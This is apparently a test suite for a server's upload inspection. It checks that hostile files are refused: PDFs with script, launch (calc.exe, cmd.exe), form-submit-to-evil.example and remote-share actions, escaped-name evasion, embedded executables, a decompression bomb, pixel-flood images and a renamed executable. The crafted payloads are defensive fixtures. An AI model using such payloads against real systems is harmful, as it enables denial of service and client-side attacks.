import zlib from 'node:zlib';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { upload } from '../src/db/schema';
import { chunkyPng, dataUrl, deflateBombPdf, jpegHeader, makeJpeg, makePdf, pdfWithObjectStream, pixelFloodPng, slowPdf } from './files';
import { draftInstallation, useTestApp, type TestContext } from './helper';

/** Files a hostile client crafts to stall, flood or fool the upload inspection. */

const ctx = useTestApp();
// A server with a short inspection time budget, and one with a small heap per inspection.
const tight = useTestApp({ env: { INSPECTION_TIMEOUT_MS: '300', INSPECTION_WORKERS: '1' } });
const small = useTestApp({ env: { INSPECTION_MEMORY_MB: '32', INSPECTION_WORKERS: '1' } });
// A server that lets two uploads in at once and makes none wait.
const narrow = useTestApp({ env: { UPLOAD_MAX_CONCURRENT: '2', UPLOAD_QUEUE_WAIT_MS: '0' } });

const send = (c: TestContext, h: Record<string, string>, id: number, files: unknown[]) =>
  c.app.inject({ method: 'POST', url: `/api/installations/${id}/uploads`, headers: h, payload: files as object });
const pdf = (bytes: Buffer, name = 'report.pdf') => [{ type: 'other', name, file: dataUrl('application/pdf', bytes) }];
const storedFor = async (c: TestContext, id: number) => c.database.db.select({ id: upload.id }).from(upload).where(eq(upload.installationId, id));
/** A draft installation and how many uploads it holds already. */
async function draft(c: TestContext, serial: string) {
  const { h, id } = await draftInstallation(c, serial);
  return { h, id, before: (await storedFor(c, id)).length };
}

describe('hostile uploads', () => {
  it.each([
    ['a script action named with #xx escapes', makePdf('/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>')],
    ['an /OpenAction of any kind', makePdf('/OpenAction [3 0 R /Fit]')],
    ['an additional action (/AA) that goes to a page', makePdf('/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>')],
    ['a /Launch action', makePdf('<< /S /Launch /F (calc.exe) >>')],
    ['a form that submits itself', makePdf('<< /S /SubmitForm /F (https://evil.example/) >>')],
    ['an /ImportData action', makePdf('<< /S /ImportData /F (data.fdf) >>')],
    ['a /GoToR link to a remote file share', makePdf('<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (smb://evil.example/share/doc.pdf) /D [0 /Fit] >> >>')],
    ['a /RichMedia annotation', makePdf('<< /Type /Annot /Subtype /RichMedia /RichMediaContent 4 0 R >>')],
    ['an /XFA form', makePdf('<< /AcroForm << /Fields [] /XFA 5 0 R >> >>')],
    ['embedded files', makePdf('<< /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>')],
    ['a file attachment annotation', makePdf('<< /Type /Annot /Subtype /FileAttachment /FS 7 0 R >>')],
    ['a /JS key with its name escaped', makePdf('<< /#4A#53 (app.alert(1)) >>')],
    ['an action in a plain object stream', pdfWithObjectStream('<< /Type /Action /S /Launch /F (cmd.exe) >>', { compress: false })],
    ['an escaped /OpenAction in a compressed object stream', pdfWithObjectStream('<< /Type /Catalog /O#70enAction 3 0 R >>')],
  ])('refuses a PDF with %s (415) and stores nothing', async (_label, bytes) => {
    const c = await ctx();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    const res = await send(c, h, id, pdf(bytes));
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({ status: 415, code: 'UNSUPPORTED_FILE_TYPE', message: 'PDF files with scripts or actions are not accepted' });
    expect(await storedFor(c, id)).toHaveLength(before);
  });

  it('takes a PDF that only mentions such words in its text, and one with a binary image stream', async () => {
    const c = await ctx();
    const { h, id } = await draft(c, 'SN-DEMO-0002');
    // A plain link needs a click and opens in a browser: allowed.
    expect((await send(c, h, id, pdf(makePdf('<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/manual) >> >>'), 'link.pdf'))).statusCode).toBe(201);
    const image = zlib.deflateSync(Buffer.from(makeJpeg(64, 64, 5)));
    const withImage = Buffer.concat([
      Buffer.from(`%PDF-1.5\n4 0 obj << /Type /XObject /Subtype /Image /Filter /FlateDecode /Length ${image.length} >> stream\n`),
      image,
      Buffer.from('\nendstream endobj\ntrailer << >>\n%%EOF\n'),
    ]);
    expect((await send(c, h, id, pdf(makePdf('BT (Launch day: JavaScript course) Tj ET'), 'words.pdf'))).statusCode).toBe(201);
    expect((await send(c, h, id, pdf(withImage, 'image.pdf'))).statusCode).toBe(201);
  });

  it('answers a PDF of endless stream keywords at once: refused when the stream never ends, taken when they are only words', async () => {
    const c = await ctx();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    // 1.4 MB each; a backtracking scan over such a file held the server for minutes.
    const unended = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(1_400_000, '1 0 obj << >> stream\n')]);
    const res = await send(c, h, id, pdf(unended));
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ status: 422, code: 'FILE_NOT_INSPECTABLE', message: 'A PDF stream has no end' });
    expect(await storedFor(c, id)).toHaveLength(before);

    const words = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(1_400_000, 'stream\r\n'), Buffer.from('%%EOF\n')]);
    expect((await send(c, h, id, pdf(words, 'words.pdf'))).statusCode).toBe(201);
  });

  it('stops inflating a decompression bomb at the budget and refuses it with 422', async () => {
    const c = await ctx();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    const bomb = deflateBombPdf(500);
    expect(bomb.length).toBeLessThan(600_000);
    const res = await send(c, h, id, pdf(bomb, 'bomb.pdf'));
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ status: 422, code: 'FILE_NOT_INSPECTABLE', message: 'The PDF decompresses to more than the inspection allows' });
    expect(await storedFor(c, id)).toHaveLength(before);
  });

  it.each([
    ['an 80-megapixel PNG', 'plan.png', 'image/png', () => pixelFloodPng(10_000, 8_000)],
    ['a 54-megapixel JPEG', 'roof.jpg', 'image/jpeg', () => jpegHeader(9_000, 6_000)],
  ])('refuses %s by its header with 422 IMAGE_TOO_LARGE', async (_label, name, mime, make) => {
    const c = await ctx();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    const res = await send(c, h, id, [{ type: 'pvModules', name, file: dataUrl(mime, make()) }]);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ status: 422, code: 'IMAGE_TOO_LARGE' });
    expect(await storedFor(c, id)).toHaveLength(before);
  });

  it('refuses an executable renamed .jpg and an empty file, each with its own message', async () => {
    const c = await ctx();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
    const renamed = await send(c, h, id, [{ type: 'pvModules', name: 'setup.jpg', file: dataUrl('image/jpeg', exe) }]);
    expect(renamed.statusCode).toBe(415);
    expect(renamed.json()).toMatchObject({ code: 'UNSUPPORTED_FILE_TYPE', message: 'The file content is not .jpg' });
    const empty = await send(c, h, id, [{ type: 'other', name: 'empty.txt', file: 'data:text/plain;base64,' }]);
    expect(empty.statusCode).toBe(400);
    expect(empty.json()).toMatchObject({ code: 'VALIDATION_ERROR', message: 'empty.txt: the file is empty' });
    expect(await storedFor(c, id)).toHaveLength(before);
  });

  it('keeps answering /api/health while a file takes longer than the inspection budget, then refuses it with 422', async () => {
    const c = await tight();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    let settled = false;
    const slow = send(c, h, id, pdf(slowPdf(8), 'slow.pdf')).finally(() => {
      settled = true;
    });
    const health: { status: number; whilePending: boolean }[] = [];
    while (!settled) {
      // Let timers and worker messages run between two polls (an inject alone may never leave the microtask queue).
      await new Promise(setImmediate);
      const res = await c.app.inject({ url: '/api/health' });
      health.push({ status: res.statusCode, whilePending: !settled });
    }
    const res = await slow;
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ status: 422, code: 'FILE_NOT_INSPECTABLE', message: 'Inspecting the file took longer than 0.3 s' });
    // The health answers kept coming while the upload was being inspected.
    expect(health.filter((r) => r.whilePending).length).toBeGreaterThan(1);
    expect(health.every((r) => r.status === 200)).toBe(true);
    expect(await storedFor(c, id)).toHaveLength(before);
    // The inspection worker that was stopped is replaced: the next file is inspected as usual.
    expect((await send(c, h, id, pdf(makePdf(), 'after.pdf'))).statusCode).toBe(201);
  });

  it('refuses a file whose inspection needs more memory than the ceiling with 422, and goes on serving', async () => {
    const c = await small();
    const { h, id, before } = await draft(c, 'SN-DEMO-0002');
    // 24 MB of 1.7 million tiny text chunks: read for markup they take more than the 32 MB heap of the inspection.
    const res = await send(c, h, id, [{ type: 'pvModules', name: 'chunks.png', file: dataUrl('image/png', chunkyPng(1_700_000)) }]);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ status: 422, code: 'FILE_NOT_INSPECTABLE', message: 'Inspecting the file needs more than 32 MB of memory' });
    expect(await storedFor(c, id)).toHaveLength(before);
    expect((await c.app.inject({ url: '/api/health' })).statusCode).toBe(200);
    expect((await send(c, h, id, [{ type: 'other', name: 'small.txt', file: dataUrl('text/plain', Buffer.from('Fine.')) }])).statusCode).toBe(201);
  });

  it('lets a bounded number of uploads in at once: the others get 503 with Retry-After and store nothing', async () => {
    const c = await narrow();
    const { h, id, before } = await draft(c, 'SN-DEMO-0001');
    const files = Array.from({ length: 8 }, (_, n) => Buffer.concat([makePdf(), Buffer.alloc(3 * 1024 * 1024, `% padding ${n}\n`)]));
    const answers = await Promise.all(files.map((bytes, n) => send(c, h, id, pdf(bytes, `p${n}.pdf`))));
    const codes = answers.map((r) => r.statusCode).sort();
    expect(codes).toEqual([201, 201, 503, 503, 503, 503, 503, 503]);
    for (const busy of answers.filter((r) => r.statusCode === 503)) {
      expect(busy.headers['retry-after']).toBe('5');
      expect(busy.json()).toMatchObject({ status: 503, code: 'SERVICE_UNAVAILABLE' });
    }
    expect(await storedFor(c, id)).toHaveLength(before + 2);
    // Once those are done, the next upload gets in.
    expect((await send(c, h, id, pdf(makePdf(), 'later.pdf'))).statusCode).toBe(201);
  });

  it('makes uploads beyond the limit wait for their turn when waiting is allowed', async () => {
    const c = await ctx();
    const { h, id, before } = await draft(c, 'SN-DEMO-0003');
    const files = Array.from({ length: 8 }, (_, n) => Buffer.concat([makePdf(), Buffer.from(`% copy ${n}\n`)]));
    const answers = await Promise.all(files.map((bytes, n) => send(c, h, id, pdf(bytes, `w${n}.pdf`))));
    expect(answers.map((r) => r.statusCode)).toEqual(Array(8).fill(201));
    expect(await storedFor(c, id)).toHaveLength(before + 8);
  });
});
